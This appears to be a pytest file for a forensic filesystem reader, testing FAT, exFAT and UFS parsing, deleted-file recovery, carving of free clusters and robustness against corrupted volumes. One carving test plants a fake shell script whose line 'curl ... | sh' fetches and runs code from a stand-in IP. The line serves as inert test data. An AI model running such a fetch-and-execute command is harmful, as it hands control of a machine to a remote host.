# SPDX-License-Identifier: Apache-2.0
"""FAT, exFAT and UFS: long names, deleted files without a byte of another's, chains that loop, sizes that lie.

SOURCE: fixtures/foreign.tar.xz, made by lab/volumes/foreign.sh with dosfstools, mtools, exfatprogs, exfat-fuse and makefs of
Debian 12 on 2026-11-22; SHA256SUMS is what was put in. Apache-2.0.
"""

from __future__ import annotations

import hashlib
import random
import struct
from typing import Literal

import pytest
from volume_fixtures import files, memory

from headwater.examine.opening import View, _further
from headwater.formats.filesystems import identify, open_filesystem
from headwater.formats.sources import MemorySource
from headwater.formats.tsk import TskTree
from headwater.model.kinds import GapReason

LONG = "/Ordner/sub/A long name, with spaces, ünïcode and 数据 in it.log"
FAT = ["fat12", "fat16", "fat32", "exfat"]


def sums() -> dict[str, str]:
    lines = files("foreign")["SHA256SUMS"].decode().splitlines()
    return {name: digest for digest, _, name in (line.partition("  ") for line in lines)}


def opened(name: str) -> TskTree:
    tree = open_filesystem(memory("foreign", name))
    assert isinstance(tree, TskTree)
    assert tree.kind == name.partition("-")[0]
    assert tree.warnings == ()
    return tree


def content(tree: TskTree, key: str) -> bytes:
    source = tree.open(key)
    return source.pread(0, source.size)


def digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize("name", FAT)
def test_files_in_use_have_their_long_names_and_their_bytes(name: str) -> None:
    tree = opened(name)
    found = {
        e.path: digest(content(tree, e.key))
        for e in tree.entries()
        if e.allocated and e.kind == "file" and "$" not in e.path
    }
    known = sums()
    assert found == {
        "/SHORT.TXT": known["short.txt"], LONG: known[LONG.rpartition("/")[2]], "/Ordner/kept.dat": known["kept.dat"],
        "/Ordner/sub/later.dat": known["later.dat"],
    }  # fmt: skip


@pytest.mark.parametrize("name", FAT)
def test_a_deleted_file_comes_back_whole_where_nobody_wrote_since(name: str) -> None:
    tree = opened(name)
    gone = next(e for e in tree.entries() if e.path == "/Ordner/gone_with_a_long_name.dat")
    assert not gone.allocated
    assert digest(content(tree, gone.key)) == sums()["gone.dat"]
    assert not tree.open(gone.key).bad


@pytest.mark.parametrize("name", ["fat12", "fat16", "exfat"])
def test_a_later_file_s_bytes_are_never_shown_as_those_of_a_deleted_one(name: str) -> None:
    tree = opened(name)
    gone = next(e for e in tree.entries() if e.path.endswith("eused.dat"))
    source = tree.open(gone.key)
    data = source.pread(0, source.size)
    ((at, length, reason, _),) = source.bad
    assert (at, reason) == (0, GapReason.OVERWRITTEN)
    assert 5000 <= length <= 8192
    assert data[:length] == bytes(length)
    told = b"was here before\n" * 1250
    assert data[length:] == told[length : len(data)]
    assert tree.extents(gone.key)[0][1] == len(data) - length


@pytest.mark.parametrize("name", FAT)
def test_used_and_free_clusters_tile_the_volume(name: str) -> None:
    tree = opened(name)
    at = 0
    for offset, length, _ in tree.coverage():
        assert offset == at
        at += length
    free = [(o, n) for o, n, what in tree.coverage() if what == "unallocated"]
    used = [run for e in tree.entries() if e.allocated and "$" not in e.path for run in tree.extents(e.key)]
    assert not [run for run in used for o, n in free if o < run[0] + run[1] and run[0] < o + n and run[0] >= 65536]


@pytest.mark.parametrize("name", FAT)
def test_what_is_in_free_clusters_is_carved_and_named_files_are_left_to_their_names(name: str) -> None:
    data = bytearray(files("foreign")[name])
    tree = opened(name)
    script = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n" * 30
    place = max((n, o) for o, n, what in tree.coverage() if what == "unallocated")[1] + tree.cluster * 40
    data[place : place + len(script)] = script
    gone = next(e for e in tree.entries() if e.path == "/Ordner/gone_with_a_long_name.dat")
    start = tree.extents(gone.key)[0][0]
    data[start : start + 9] = b"#!/bin/sh"
    source = MemorySource(bytes(data))
    bent = open_filesystem(source)
    assert isinstance(bent, TskTree)
    (view,) = _further(View("", bent, 0, source.size, True, volume=source))
    assert [view.tree.extents(e.key)[0][0] for e in view.tree.entries()] == [place]


@pytest.mark.parametrize("name", ["ufs1", "ufs1-be"])
def test_ufs_of_both_byte_orders_holds_what_was_put_in(name: str) -> None:
    tree = opened(name)
    entries = {e.path: e for e in tree.entries()}
    for file, wanted in sums().items():
        assert digest(content(tree, entries[f"/home/{file}"].key)) == wanted
    assert entries["/etc/link"].target == "/etc/passwd"
    assert entries["/etc/hard"].inode == entries["/home/short.txt"].inode
    assert sum(path.startswith("/home/deep/n") for path in entries) == 100


@pytest.mark.parametrize(("name", "order"), [("ufs1", "little"), ("ufs1-be", "big")])
def test_an_inode_of_an_impossible_size_is_named_and_holds_nothing_up(
    name: str, order: Literal["little", "big"]
) -> None:
    data = bytearray(files("foreign")[name])
    entries = {e.path: e for e in opened(name).entries()}
    table, fragment = (int.from_bytes(data[8192 + at : 8196 + at], order) for at in (16, 52))
    for path in ("/home/kept.dat", "/home/deep"):
        at = table * fragment + entries[path].inode * 128 + 8
        assert int.from_bytes(data[at : at + 8], order) == entries[path].size
        data[at : at + 8] = (1 << 62).to_bytes(8, order)
    tree = open_filesystem(MemorySource(bytes(data)))
    assert isinstance(tree, TskTree)
    bent = {e.path: e for e in tree.entries()}
    assert bent["/home/deep"].size == 0
    assert [gap.reason for gap in tree.warnings][:2] == [GapReason.NOT_THIS_FORMAT] * 2
    assert digest(content(tree, bent["/home/gone.dat"].key)) == sums()["gone.dat"]


def small_fat32() -> bytearray:
    """A FAT32 of 2,000 clusters with one file: as Linux makes small boot partitions, too few for FAT32 by Microsoft's count."""
    head = bytearray(512)
    head[:11] = b"\xeb\x58\x90mkfs.fat"
    struct.pack_into("<HBHBHHBHHHII", head, 11, 512, 1, 32, 2, 0, 0, 0xF8, 0, 32, 2, 0, 2064)
    struct.pack_into("<IHHIHH", head, 36, 16, 0, 0, 2, 1, 6)
    head[66], head[82:90], head[510:512] = 0x29, b"FAT32   ", b"\x55\xaa"
    data = bytearray(2064 * 512)
    data[:512] = data[6 * 512 : 7 * 512] = head
    for start in (32, 48):
        struct.pack_into("<5I", data, start * 512, 0x0FFFFFF8, 0x0FFFFFFF, 0x0FFFFFFF, 4, 0x0FFFFFFF)
    data[64 * 512 : 64 * 512 + 32] = struct.pack(
        "<11sBBBHHHHHHHI", b"BOOT    LOG", 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 3, 700
    )
    data[65 * 512 : 65 * 512 + 700] = b"b" * 700
    return data


def test_a_small_fat32_is_read_as_linux_reads_it() -> None:
    source = MemorySource(bytes(small_fat32()))
    assert identify(source) == "fat32"
    tree = open_filesystem(source)
    assert isinstance(tree, TskTree)
    entry = next(e for e in tree.entries() if e.path == "/BOOT.LOG")
    assert content(tree, entry.key) == b"b" * 700


def test_chains_that_loop_or_lead_astray_end() -> None:
    """A chain that leads back, to nowhere, to another's clusters, or a directory that is its own child."""
    for entries in ((3, 3), (4, 3), (2, 2), (0x0FFFFFF7, 0), (0x0ABCDEF0, 5), (0, 0)):
        data = small_fat32()
        for start in (32, 48):
            struct.pack_into("<2I", data, start * 512 + 12, *entries)
            struct.pack_into("<I", data, start * 512 + 8, 2)  # the root directory's chain, too
        struct.pack_into("<I", data, 64 * 512 + 28, 0xFFFFFFFF)  # a size beyond any volume
        data[64 * 512 + 32 : 64 * 512 + 64] = struct.pack(
            "<11sBBBHHHHHHHI", b"LOOP       ", 0x10, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0
        )
        tree = open_filesystem(MemorySource(bytes(data)))
        assert tree is not None
        listed = list(tree.entries())
        assert len(listed) < 2000
        for entry in listed:
            source = tree.open(entry.key)
            assert len(source.pread(0, 4096)) <= 4096
            source.pread(max(0, source.size - 4096), 4096)


@pytest.mark.parametrize("name", [*FAT, "ufs1"])
def test_bent_volumes_neither_raise_nor_show_what_is_not_there(name: str) -> None:
    whole = files("foreign")[name]
    chance = random.Random(name)
    for _ in range(6):
        data = bytearray(whole[: chance.choice((len(whole), len(whole) // 2))])
        for _ in range(chance.choice((3, 60))):
            data[chance.randrange(1 << 16 if name != "exfat" else 1 << 21)] = chance.randrange(256)
        tree = open_filesystem(MemorySource(bytes(data)))
        if tree is None:
            continue
        for number, entry in enumerate(tree.entries()):
            if number > 300:
                break
            source = tree.open(entry.key)
            assert len(source.pread(0, 4096)) <= 4096
            assert all(at >= 0 for at, _ in tree.extents(entry.key))
        assert all(at >= 0 and n > 0 for at, n, _ in tree.coverage())
